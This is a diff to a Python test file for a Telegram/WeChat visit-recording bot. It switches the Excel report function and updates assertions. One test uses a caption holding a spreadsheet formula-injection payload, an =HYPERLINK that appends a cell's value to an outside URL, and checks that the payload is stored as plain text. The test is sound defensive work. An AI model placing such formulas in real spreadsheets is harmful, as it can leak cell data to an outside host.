@@ -18,7 +18,7 @@ from bot.channels.telegram.adapter import TelegramChannel
 from bot.channels.wechat.adapter import WeChatChannel
 from bot.config import TelegramSettings
 from bot.messages import Incoming
-from bot.progress_report import write_report
+from bot.scope_report import office_report
 from bot.router import CRASH_REPLY, answer as dispatch
 from bot.rules import Route, always
 from bot.web import build_web_app
@@ -185,8 +185,7 @@ async def test_hostile_characters_never_reach_the_note_or_break_the_report(chat,
     replies = await chat("C2").photo(jpeg(), caption=caption)  # C2 has one household: recorded at once
     assert "已记录走访" in replies[-1].text
     assert roster.db.execute("SELECT note FROM visits").fetchone() == (stored,)
-    counts = write_report(roster.db, tmp_path / "进度.xlsx", root_unit=None, now=roster.clock.now(),
-                          interval_days=30, tz=roster.tz)
+    counts = office_report(roster, tmp_path / "进度.xlsx", None, None, None)
     assert counts["走访记录"] == 1
 
 
@@ -200,10 +199,10 @@ async def test_a_note_is_never_a_formula_in_the_report(chat, roster, tmp_path):
     from openpyxl import load_workbook
 
     await chat("C2").photo(jpeg(), caption='=HYPERLINK("http://example.invalid/?"&B2,"点此查看")')
-    write_report(roster.db, tmp_path / "进度.xlsx", root_unit=None, now=roster.clock.now(), interval_days=30,
-                 tz=roster.tz)
+    office_report(roster, tmp_path / "进度.xlsx", None, None, None)
     sheet = load_workbook(tmp_path / "进度.xlsx")["走访记录"]
-    assert sheet.cell(row=2, column=11).data_type != "f"
+    assert sheet.cell(row=1, column=13).value == "干部的说明"
+    assert sheet.cell(row=2, column=13).value.startswith("=HYPERLINK") and sheet.cell(row=2, column=13).data_type != "f"
 
 
 # ---- a failure before any handler runs ----
